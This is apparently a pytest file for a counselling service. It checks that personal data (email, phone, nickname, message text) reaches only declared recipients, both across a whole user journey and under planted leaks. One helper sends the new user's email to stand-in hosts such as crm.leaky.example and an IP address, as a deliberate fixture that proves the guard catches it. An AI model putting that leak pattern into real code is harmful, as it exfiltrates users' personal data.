"""SHARE-1: personal data leaves the service only to the recipients it declares
(``confide.privacy.recipients``), and each only with the kinds of data it is declared for.

A whole journey (intake as a visitor, sign-up with a phone number, choosing a counselor, booking,
chat, export, erasure) runs with every outbound channel intercepted: sockets (tests/outbound.py),
the mail outbox and the SMS list. Canary personal data is planted at every step. The browser
side of the same journey is tests/browser/test_recipients.py. The last tests plant a leak the
way a careless integration would and show that the guard catches it."""

from __future__ import annotations

import re
import urllib.request
from contextlib import suppress
from typing import Any

import pytest
from allauth.account.signals import user_signed_up
from django.core import mail
from django.urls import reverse

from confide.accounts.models import User
from confide.core import sms
from confide.privacy.models import RightsRequest
from confide.privacy.recipients import Recipient, declared_recipients
from tests.accounts.helpers import last_code, signup_data
from tests.counselors.builders import make_counselor
from tests.factories import PASSWORD
from tests.intake.test_flow import walk
from tests.outbound import OutboundGuard, guarded, judge
from tests.scheduling.conftest import open_hours

pytestmark = pytest.mark.django_db

EMAIL = "zephyrine.q9share@example.test"
PHONE = "+34611987654"
NICKNAME = "Zephyrine"
MESSAGE = "my lighthouse keeper dream again"
#: canary value -> its inventory category
CANARIES = {EMAIL: "contact", PHONE: "contact", NICKNAME: "identity", MESSAGE: "content"}


def _sms_code() -> str:
    found = re.search(r"code is ([A-Z0-9-]+)\.", sms.sent[-1]["text"])
    assert found
    return found.group(1)


def _journey(client: Any, committed: Any) -> User:
    """Each step's tasks (mail, texts, the export) run as they would after its commit."""
    counselor = make_counselor(name="Stina Sorg", languages=("sv",), jurisdictions=("SE",))
    open_hours(counselor.user, "Europe/Stockholm", notice_minutes=0)

    def post(url: str, data: dict[str, Any] | None = None) -> Any:
        with committed(execute=True):
            return client.post(url, data or {})

    walk(client)  # the intake, as a visitor
    post(reverse("account_signup"), signup_data(email=EMAIL, nickname=NICKNAME, phone=PHONE))
    verified = post(reverse("account_verify_phone"), {"code": _sms_code()})
    post(verified["Location"], {"code": last_code(EMAIL)})
    user = User.objects.get(email=EMAIL)
    assert client.get(reverse("core:dashboard")).wsgi_request.user == user
    # The form posts the counselor's user id (suggestion.counselor_id), not the profile's.
    assert post("/matching/choose/", {"counselor": counselor.user.pk}).status_code == 302
    page = client.get("/schedule/book/").content.decode()
    slot = re.search(r'name="starts_at" value="([^"]+)"', page)
    assert slot, "no slot offered"
    assert post("/schedule/book/", {"starts_at": slot.group(1)}).status_code == 302
    client.get(reverse("messaging:index"))
    from confide.messaging.services import conversations_for

    conversation = conversations_for(user).get()
    url = reverse("messaging:conversation", args=[conversation.pk])
    assert post(url, {"body": MESSAGE}).status_code == 302
    post(reverse("account_reauthenticate"), {"password": PASSWORD})
    assert post(reverse("privacy:export_start")).status_code == 302
    request = RightsRequest.objects.get(user=user, kind="export")
    assert client.get(reverse("privacy:export_download", args=[request.pk])).status_code == 200
    post(reverse("account_reauthenticate"), {"password": PASSWORD})
    erased = post(reverse("privacy:erase_account"), {"acc-confirm": "on"})
    assert 'id="receipt"' in erased.content.decode()
    return user


def _mail_and_sms_problems(accounts: dict[str, set[str]]) -> list[str]:
    """Mail and texts go only to account holders, through the declared channel; a person's
    e-mail address and phone number only to that person."""
    problems = []
    for message in mail.outbox:
        text = f"{message.subject}\n{message.body}".lower()
        for address in message.recipients():
            if address not in accounts:
                problems.append(f"mail to {address}, who has no account")
            for value in (EMAIL, PHONE):
                if value.lower() in text and value not in accounts.get(address, set()):
                    problems.append(f"{value} mailed to {address}")
        if MESSAGE in text:
            problems.append(f"a message's text was mailed: {message.subject}")
    for text in sms.sent:
        if text["to"] not in {p for own in accounts.values() for p in own}:
            problems.append(f"text to {text['to']}, who has no account")
        if EMAIL in text["text"] or MESSAGE in text["text"]:
            problems.append(f"personal data in a text: {text['text']}")
    return problems


def _accounts() -> dict[str, set[str]]:
    """Every account's addresses -> the person's own contact details."""
    owners = {u.email: {u.email, u.phone} for u in User.objects.all()}
    owners[EMAIL] = {EMAIL, PHONE}  # the canary person, whose row erasure anonymized
    return owners


@pytest.mark.promise("SHARE-1")
def test_a_whole_journey_sends_personal_data_only_to_declared_recipients(
    client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    mail.outbox.clear()
    sms.sent.clear()
    accounts: dict[str, set[str]] = {}
    with guarded() as guard:
        _journey(client, django_capture_on_commit_callbacks)
        accounts = _accounts() | {u.email: {u.email} for u in User.objects.all()}
    assert len(mail.outbox) >= 4 and sms.sent  # the journey did reach both channels
    assert guard.problems(CANARIES, declared_recipients()) == []
    assert _mail_and_sms_problems(_accounts() | accounts) == []


def _leak_on_sign_up(destination: str) -> Any:
    """A careless integration: on sign-up, post the new person's e-mail address somewhere."""

    def receiver(sender: Any, request: Any, user: Any, **kwargs: Any) -> None:
        with suppress(OSError):
            urllib.request.urlopen(f"{destination}?email={user.email}", timeout=2)  # noqa: S310

    return receiver


@pytest.mark.promise("SHARE-1")
@pytest.mark.parametrize(
    "destination",
    ["http://crm.leaky.example/hook", "http://203.0.113.9:8080/collect"],
    ids=["by-name", "by-address"],
)
def test_the_guard_catches_an_integration_that_posts_the_email_to_an_undeclared_host(
    client: Any, destination: str
) -> None:
    receiver = _leak_on_sign_up(destination)
    user_signed_up.connect(receiver, dispatch_uid="leak")
    try:
        with guarded() as guard:
            client.post(reverse("account_signup"), signup_data(email=EMAIL))
    finally:
        user_signed_up.disconnect(dispatch_uid="leak")
    problems = guard.problems(CANARIES, declared_recipients())
    host = destination.split("/")[2].split(":")[0]
    assert problems and host in problems[0] and EMAIL in problems[0]
    assert EMAIL.encode() in guard.payload(guard.sent[0])  # the sink saw the real request


@pytest.mark.promise("SHARE-1")
def test_a_declared_recipient_may_not_receive_a_kind_of_data_it_is_not_declared_for(
    client: Any, settings: Any
) -> None:
    """The statistics vendor is declared (browser side, usage data only): the server posting it
    an e-mail address is caught twice, as a server contact and as contact data."""
    settings.CONSENT_INTEGRATIONS = {"google_analytics"}
    settings.CONSENT_INTEGRATION_ACCOUNTS = {"google_analytics": "G-TEST"}
    receiver = _leak_on_sign_up("http://www.google-analytics.com/g/collect")
    user_signed_up.connect(receiver, dispatch_uid="leak")
    try:
        with guarded() as guard:
            client.post(reverse("account_signup"), signup_data(email=EMAIL))
    finally:
        user_signed_up.disconnect(dispatch_uid="leak")
    assert any("undeclared www.google-analytics.com" in p for p in guard.problems(CANARIES, []))
    analytics = [r for r in declared_recipients() if r.kind == "analytics"]
    server_side = [Recipient(r.key, r.kind, r.hosts, r.categories, "server") for r in analytics]
    problems = guard.problems(CANARIES, server_side)
    assert problems and "contact data" in problems[0]


def test_mail_to_someone_without_an_account_is_caught(db: Any) -> None:
    mail.send_mail("Hello", f"Write to {EMAIL}", None, ["outsider@elsewhere.test"])
    assert _mail_and_sms_problems({EMAIL: {EMAIL}}) == [
        "mail to outsider@elsewhere.test, who has no account",
        f"{EMAIL} mailed to outsider@elsewhere.test",
    ]


def test_the_embedded_default_declares_no_outside_recipient_and_judges_loopback_alone() -> None:
    assert declared_recipients() == []
    assert judge("evil.example", "server", "nothing", CANARIES, []) != []
    assert OutboundGuard().sent == []
